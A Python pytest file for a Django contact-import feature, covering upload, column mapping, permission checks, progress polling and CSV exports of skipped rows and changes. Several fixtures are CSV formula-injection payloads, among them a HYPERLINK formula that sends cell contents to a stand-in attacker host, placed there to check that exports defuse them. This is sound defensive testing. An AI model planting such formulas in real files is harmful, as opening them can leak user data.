import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from rallypoint.imports.models import ImportJob, ImportStatus
from rallypoint.imports.services import import_job_run
from rallypoint.people.models import Person
from tests.factories import EmailAddressFactory, PersonFactory, PhoneNumberFactory
from tests.imports.factories import started_job

pytestmark = pytest.mark.django_db

CSV = b"Email,First Name,Zip\nana@example.org,Ana,80202\nbad,Bad,\nben@example.org,Ben,10001\n"


def upload(client, content=CSV, name="list.csv"):
    return client.post(reverse("imports:upload"), {"file": SimpleUploadedFile(name, content)})


def test_import_list_sends_anonymous_visitor_to_login(client):
    response = client.get(reverse("imports:list"))
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_import_upload_forbidden_for_supporter_and_stores_nothing(supporter_client):
    assert upload(supporter_client).status_code == 403
    assert ImportJob.objects.count() == 0


def test_import_upload_then_columns_then_progress(
    organizer_client, django_capture_on_commit_callbacks
):
    response = upload(organizer_client)
    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("imports:columns", args=[job.uuid])

    page = organizer_client.get(response["Location"])
    assert page.status_code == 200
    assert page.context["form"]["col_0"].initial == "email"
    assert b"ana@example.org" in page.content

    with django_capture_on_commit_callbacks(execute=True):
        response = organizer_client.post(
            reverse("imports:columns", args=[job.uuid]),
            {"col_0": "email", "col_1": "given_name", "col_2": "postal_code", "tags": "fair, 2024"},
        )
    assert response.status_code == 302
    job.refresh_from_db()
    assert (job.status, job.created_count, job.skipped_count) == ("done", 2, 1)
    assert job.tags == ["fair", "2024"]

    detail = organizer_client.get(reverse("imports:detail", args=[job.uuid]))
    assert b"hx-trigger" not in detail.content
    assert b"Download skipped rows" in detail.content


def test_import_upload_of_unreadable_file_explains_and_keeps_nothing(organizer_client):
    response = upload(organizer_client, content=b"PK\x03\x04\x00\x00binary", name="list.xlsx")
    assert response.status_code == 400
    assert response.context["upload_form"].errors["file"] == [
        "This looks like a spreadsheet or other binary file, not a CSV."
    ]
    assert ImportJob.objects.count() == 0


def test_import_upload_without_file_asks_for_one(organizer_client):
    response = organizer_client.post(reverse("imports:upload"), {})
    assert response.status_code == 400
    assert response.context["upload_form"].errors["file"] == ["Choose a CSV file to upload."]


def test_import_columns_refuses_mapping_without_email_or_phone(organizer_client):
    upload(organizer_client)
    job = ImportJob.objects.get()
    response = organizer_client.post(
        reverse("imports:columns", args=[job.uuid]), {"col_1": "given_name"}
    )
    assert response.status_code == 400
    assert response.context["form"].non_field_errors() == [
        "Choose the column with email addresses or the one with phone numbers."
    ]
    job.refresh_from_db()
    assert job.status == ImportStatus.DRAFT


def test_import_columns_post_forbidden_for_supporter(tmp_path, supporter_client):
    job = ImportJob.objects.create(original_name="x.csv", headers=["email"], mapping={"0": "email"})
    response = supporter_client.post(
        reverse("imports:columns", args=[job.uuid]), {"col_0": "email"}
    )
    assert response.status_code == 403
    job.refresh_from_db()
    assert job.status == ImportStatus.DRAFT


def test_import_progress_polls_while_running(tmp_path, organizer_client):
    job = started_job(tmp_path, "email\na@example.org\n")
    response = organizer_client.get(reverse("imports:progress", args=[job.uuid]))
    assert response.status_code == 200
    assert b'hx-trigger="every 1s"' in response.content
    assert b'data-status="queued"' in response.content


def test_import_errors_csv_lists_line_reason_and_cells(tmp_path, organizer_client):
    job = started_job(tmp_path, "email,name\na@example.org,Ana\n,Nobody\n=cmd@x,Evil\n")
    import_job_run(job_id=job.pk)
    response = organizer_client.get(reverse("imports:errors_csv", args=[job.uuid]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode()
    assert body.splitlines() == [
        "\ufeffline,reason,email,name",
        "3,No email address and no phone number.,,Nobody",
        "4,Email: That email address doesn't look right: The part after the @-sign is not"
        " valid. It should have a period.,'=cmd@x,Evil",
    ]


def test_import_cancel_by_supporter_changes_nothing(tmp_path, supporter_client):
    job = started_job(tmp_path, "email\na@example.org\n")
    response = supporter_client.post(reverse("imports:cancel", args=[job.uuid]))
    assert response.status_code == 403
    job.refresh_from_db()
    assert job.status == ImportStatus.QUEUED


def test_import_resume_of_finished_job_says_why(tmp_path, organizer_client):
    job = import_job_run(job_id=started_job(tmp_path, "email\na@example.org\n").pk)
    response = organizer_client.post(reverse("imports:resume", args=[job.uuid]), follow=True)
    assert [str(m) for m in response.context["messages"]] == [
        "Only a stopped import can be resumed."
    ]
    assert Person.objects.count() == 1


@pytest.mark.parametrize("jobs", [1, 3])
def test_import_list_query_count_does_not_grow(
    tmp_path, organizer_client, django_assert_num_queries, jobs
):
    for i in range(jobs):
        started_job(tmp_path, f"email\np{i}@example.org\n")
    # session, user, jobs count, jobs page (with created_by), segments for the export form
    with django_assert_num_queries(5):
        response = organizer_client.get(reverse("imports:list"))
    assert len(response.context["page"].object_list) == jobs


def test_import_errors_csv_defuses_formulas_in_the_header_row_too(tmp_path, organizer_client):
    job = started_job(
        tmp_path,
        'email,=HYPERLINK("http://evil.example/?"&A1),+cmd,-2+3,@SUM(1)\n,a,b,c,d\n',
        mapping={"0": "email"},
    )
    import_job_run(job_id=job.pk)
    response = organizer_client.get(reverse("imports:errors_csv", args=[job.uuid]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows == [
        ["\ufeffline", "reason", "email", '\'=HYPERLINK("http://evil.example/?"&A1)', "'+cmd"]
        + ["'-2+3", "'@SUM(1)"],
        ["2", "No email address and no phone number.", "", "a", "b", "c", "d"],
    ]


def test_import_errors_csv_defuses_a_reason_that_starts_with_a_column_name(
    tmp_path, organizer_client
):
    job = started_job(
        tmp_path, "email,=1+1\na@example.org,maybe\n", mapping={"0": "email", "1": "sms_consent"}
    )
    import_job_run(job_id=job.pk)
    response = organizer_client.get(reverse("imports:errors_csv", args=[job.uuid]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1] == ["2", "'=1+1: “maybe” should be yes or no.", "a@example.org", "maybe"]


def changed_import(tmp_path, organizer=None):
    ana = PersonFactory(given_name="Ana", family_name="")
    EmailAddressFactory(person=ana, address="ana@example.org")
    ben = PersonFactory(given_name="=Ben", family_name="Berg")
    PhoneNumberFactory(person=ben, number="+13035550102")
    job = started_job(
        tmp_path,
        "email,first name,last name,phone\n"
        "mallory@example.org,@Mallory,,(303) 555-0102\n"
        "ana@example.org,,Diaz,\n"
        "cy@example.org,Cy,,\n",
    )
    if organizer is not None:
        ImportJob.objects.filter(pk=job.pk).update(created_by=organizer)
    return import_job_run(job_id=job.pk), ana, ben


def test_import_changes_csv_lists_each_change_with_its_line(tmp_path, organizer_client):
    job, ana, ben = changed_import(tmp_path)
    mallory = Person.objects.get(email_addresses__address="mallory@example.org")
    cy = Person.objects.get(email_addresses__address="cy@example.org")
    response = organizer_client.get(reverse("imports:changes_csv", args=[job.uuid]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="people-changes.csv"'
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows == [
        ["\ufeffline", "change", "person_id", "name", "possible_duplicate_of", "duplicate_name"],
        ["2", "created", str(mallory.pk), "'@Mallory", str(ben.pk), "'=Ben Berg"],
        ["3", "updated", str(ana.pk), "Ana Diaz", "", ""],
        ["4", "created", str(cy.pk), "Cy", "", ""],
    ]


def test_import_changes_csv_refused_to_supporter_and_anonymous(tmp_path, client, supporter):
    job, _, _ = changed_import(tmp_path)
    url = reverse("imports:changes_csv", args=[job.uuid])
    response = client.get(url)
    assert (response.status_code, response["Location"].split("?")[0]) == (302, "/accounts/login/")
    client.force_login(supporter)
    assert client.get(url).status_code == 403


def test_import_detail_lists_updated_people_and_possible_duplicates(tmp_path, organizer_client):
    job, ana, ben = changed_import(tmp_path)
    mallory = Person.objects.get(email_addresses__address="mallory@example.org")
    response = organizer_client.get(reverse("imports:detail", args=[job.uuid]))
    assert [(c.line, c.person_id) for c in response.context["updated"]] == [(3, ana.pk)]
    assert [(c.line, c.person_id, c.duplicate_of_id) for c in response.context["duplicates"]] == [
        (2, mallory.pk, ben.pk)
    ]
    page = response.content.decode()
    assert 'data-count="duplicates">1<' in page
    assert f'href="{reverse("people:detail", args=[ben.pk])}"' in page
    assert reverse("imports:changes_csv", args=[job.uuid]) in page


def test_person_page_history_shows_the_import_that_changed_them(
    tmp_path, organizer, organizer_client
):
    job, ana, _ = changed_import(tmp_path, organizer=organizer)
    response = organizer_client.get(reverse("people:detail", args=[ana.pk]))
    page = response.content.decode()
    assert f"· import #{job.pk}, line 3" in page
    assert "No changes by organizers yet." not in page
    assert [e.action for e in response.context["history"]] == ["person.updated"]


def test_import_columns_update_by_phone_is_an_explicit_choice(
    organizer_client, django_capture_on_commit_callbacks
):
    ben = PersonFactory(given_name="Ben")
    PhoneNumberFactory(person=ben, number="+13035550102")
    upload(organizer_client, content=b"email,phone\nben.new@example.org,303-555-0102\n")
    job = ImportJob.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        organizer_client.post(
            reverse("imports:columns", args=[job.uuid]),
            {"col_0": "email", "col_1": "phone", "update_by_phone": "on"},
        )
    job.refresh_from_db()
    assert (job.update_by_phone, job.updated_count, job.created_count) == (True, 1, 0)
    assert list(ben.email_addresses.values_list("address", flat=True)) == ["ben.new@example.org"]
